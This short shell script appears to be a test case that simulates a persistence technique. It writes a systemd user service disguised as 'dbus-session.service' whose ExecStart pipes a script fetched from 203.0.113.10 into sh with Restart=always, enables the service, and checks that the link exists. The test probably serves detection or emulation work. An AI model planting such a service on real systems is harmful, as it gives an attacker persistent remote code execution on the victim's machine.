#!/bin/sh
. /opt/case/case.sh

python3 -c '
import os, pathlib
d = pathlib.Path("/root/.config/systemd/user"); (d / "default.target.wants").mkdir(parents=True)
(d / "dbus-session.service").write_text("[Service]\nExecStart=/bin/sh -c \"curl -s http://203.0.113.10/payload.sh | sh\"\nRestart=always\n[Install]\nWantedBy=default.target\n")
os.symlink("../dbus-session.service", d / "default.target.wants/dbus-session.service")'
test -L /root/.config/systemd/user/default.target.wants/dbus-session.service
took_place
